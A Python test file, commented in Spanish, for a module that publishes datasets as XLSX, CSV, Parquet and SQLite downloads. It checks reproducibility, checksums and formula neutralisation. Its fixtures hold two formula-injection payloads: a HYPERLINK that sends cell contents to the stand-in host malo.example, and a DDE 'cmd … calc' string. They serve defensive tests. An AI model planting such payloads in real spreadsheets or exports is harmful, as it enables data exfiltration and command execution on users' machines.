"""Las descargas: los mismos datos en cuatro formatos, siempre con los mismos bytes y sin fórmulas que se ejecuten."""

import csv
import hashlib
import io
import json
import os
import time
import zipfile
from pathlib import Path

import pytest
from arro3.io import read_parquet
from openpyxl import Workbook, load_workbook
from publica_chica import construir

from publicacion import descargas
from publicacion.descargas import NO_SE_MUESTRA, TIPOS, hacer, indice, limpiar
from publicacion.esquema_publico import TABLAS, VISTAS

FORMULA = '=HYPERLINK("http://malo.example/?"&A1,"ver")'


@pytest.fixture(scope="module")
def hechas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """La carpeta de las descargas de un archivo cuya pregunta y cuyo grupo parecen fórmulas."""
    datos = tmp_path_factory.mktemp("descargas")
    ruta = construir(datos / "publica.db", 120, texto=FORMULA, etiqueta="+cmd|' /C calc'!A0")
    hacer(ruta, datos / "d")
    (carpeta,) = (datos / "d").iterdir()
    assert carpeta.name == hashlib.sha256(ruta.read_bytes()).hexdigest()[:12]
    return carpeta


def _en_csv(carpeta: Path, nombre: str) -> list[list[str]]:
    with zipfile.ZipFile(carpeta / "datos-csv.zip") as paquete:
        return list(csv.reader(io.StringIO(paquete.read(nombre).decode("utf-8-sig"), newline="")))


def test_la_hoja_de_calculo_tiene_leame_y_una_hoja_por_vista_con_encabezados(hechas):
    libro = load_workbook(hechas / "datos.xlsx")
    assert libro.sheetnames[0] == "Léame"
    assert len(libro.sheetnames) == 1 + len(VISTAS)
    leame = {f[0]: f[1] for f in libro["Léame"].iter_rows(min_row=2, values_only=True)}
    assert {"Cómo se protegió", "Hasta dónde llega", "Cómo citar", "Licencia"} <= set(leame)
    assert "periodo de 120" in leame["Cómo citar"]
    assert leame["Regla"].endswith(": 10")
    assert all(len(nombre) <= 31 for nombre in libro.sheetnames)
    assert "Eventos por mes, programa, zona" in libro.sheetnames
    por_sexo = list(libro["Asistencias por sexo"].iter_rows(values_only=True))
    assert por_sexo[0] == ("Periodo", "Sexo", "Asistencias")
    assert por_sexo[1][2] == 120
    assert por_sexo[2][2] == NO_SE_MUESTRA  # y no cero ni vacío


def test_lo_que_parece_formula_llega_como_texto(hechas):
    libro = load_workbook(hechas / "datos.xlsx")
    celdas = [c for hoja in libro for fila in hoja.iter_rows() for c in fila]
    assert any(c.value == FORMULA for c in celdas)
    assert {c.data_type for c in celdas} <= {"s", "n"}
    assert all(c.quotePrefix for c in celdas if c.value == FORMULA)
    assert "'" + FORMULA in _en_csv(hechas, "tablas/pregunta.csv")[1]
    assert "'+cmd|' /C calc'!A0" in {v for fila in _en_csv(hechas, "tablas/grupo.csv") for v in fila}


def test_una_hoja_sin_cuidado_si_traeria_la_formula(tmp_path):
    """Control: así se ve la fórmula cuando nadie la neutraliza."""
    libro = Workbook()
    libro.active.append([FORMULA])
    libro.save(tmp_path / "x.xlsx")
    assert load_workbook(tmp_path / "x.xlsx").active["A1"].data_type == "f"


def test_el_csv_abre_con_acentos_y_trae_todo(hechas):
    with zipfile.ZipFile(hechas / "datos-csv.zip") as paquete:
        nombres = set(paquete.namelist())
        assert paquete.read("tablas/lote.csv").startswith("\ufeff".encode())
        assert "Cómo citar" in paquete.read("LEAME.txt").decode("utf-8-sig")
        assert {i.date_time for i in paquete.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert nombres == {"LEAME.txt", *(f"tablas/{t}.csv" for t in TABLAS), *(f"para-leer/{v}.csv" for v in VISTAS)}
    assert _en_csv(hechas, "tablas/asistencia_cubo.csv") == [
        ["lote", "eje", "grupo", "n"],
        ["2026-T4", "sexo", "H", ""],
        ["2026-T4", "sexo", "M", "120"],
        ["2026-T4", "total", "todas", "120"],
    ]


def test_el_parquet_conserva_tipos_y_nulos(hechas):
    with zipfile.ZipFile(hechas / "datos-parquet.zip") as paquete:
        leida = read_parquet(io.BytesIO(paquete.read("tablas/asistencia_cubo.parquet"))).read_all()
        vacia = read_parquet(io.BytesIO(paquete.read("tablas/poa.parquet"))).read_all()
    assert leida.column_names == ["lote", "eje", "grupo", "n"]
    assert str(leida.schema.field("n").type) == "Int64" or "int64" in str(leida.schema.field("n").type).lower()
    assert leida["n"].to_pylist() == [None, 120, 120]
    assert vacia.num_rows == 0
    assert "float64" in str(vacia.schema.field("meta_anual").type).lower()


def test_el_indice_dice_tamanos_y_huellas_verdaderos(hechas):
    hallado = indice(hechas.parent, json.loads((hechas / "indice.json").read_text("utf-8"))["huella"])
    assert hallado is not None
    assert [a.nombre for a in hallado.archivos] == list(TIPOS)
    for archivo in hallado.archivos:
        contenido = (hechas / archivo.nombre).read_bytes()
        assert (archivo.bytes, archivo.sha256) == (len(contenido), hashlib.sha256(contenido).hexdigest())
    assert hashlib.sha256((hechas / "datos.sqlite").read_bytes()).hexdigest() == hallado.huella
    assert indice(hechas.parent, "0" * 64) is None


def test_otro_dia_y_en_otra_carpeta_salen_los_mismos_bytes(hechas, tmp_path, monkeypatch):
    ruta = tmp_path / "otra.db"
    ruta.write_bytes((hechas / "datos.sqlite").read_bytes())
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    hacer(ruta, tmp_path / "d")
    monkeypatch.undo()
    time.tzset()
    for nombre in (*TIPOS, "indice.json"):
        assert (tmp_path / "d" / hechas.name / nombre).read_bytes() == (hechas / nombre).read_bytes(), nombre


def test_un_intento_cortado_no_estorba_y_repetir_no_hace_nada(tmp_path):
    ruta = construir(tmp_path / "publica.db")
    cual = hashlib.sha256(ruta.read_bytes()).hexdigest()
    carpeta = descargas.carpeta_de(ruta)
    for resto in (f".{cual[:12]}.nuevo", cual[:12]):
        (carpeta / resto).mkdir(parents=True)
        (carpeta / resto / "datos.xlsx").write_bytes(b"a medias")
    assert indice(carpeta, cual) is None
    hacer(ruta, carpeta)
    assert [p.name for p in carpeta.iterdir()] == [cual[:12]]
    marca = (carpeta / cual[:12] / "datos.xlsx").stat().st_mtime_ns
    hacer(ruta, carpeta)
    assert (carpeta / cual[:12] / "datos.xlsx").stat().st_mtime_ns == marca


def test_sin_donde_escribir_avisa_y_no_deja_nada(tmp_path):
    ruta = construir(tmp_path / "publica.db")
    (tmp_path / "d").write_bytes(b"esto no es una carpeta")
    with pytest.raises(OSError, match="d"):
        hacer(ruta, tmp_path / "d")
    assert {p.name for p in tmp_path.iterdir()} == {"publica.db", "d"}


def test_limpiar_deja_las_de_ahora_y_las_anteriores(tmp_path):
    huellas = []
    for n, vez in ((50, 1), (55, 2), (60, 3)):
        ruta = construir(tmp_path / f"{n}.db", n)
        hacer(ruta, tmp_path / "d")
        huellas.append(hashlib.sha256(ruta.read_bytes()).hexdigest())
        os.utime(tmp_path / "d" / huellas[-1][:12], (vez, vez))
    (tmp_path / "d" / ".cortado.nuevo").mkdir()
    limpiar(tmp_path / "d", huellas[-1])
    assert {p.name for p in (tmp_path / "d").iterdir()} == {huellas[1][:12], huellas[2][:12]}
    limpiar(tmp_path / "no-hay", huellas[-1])
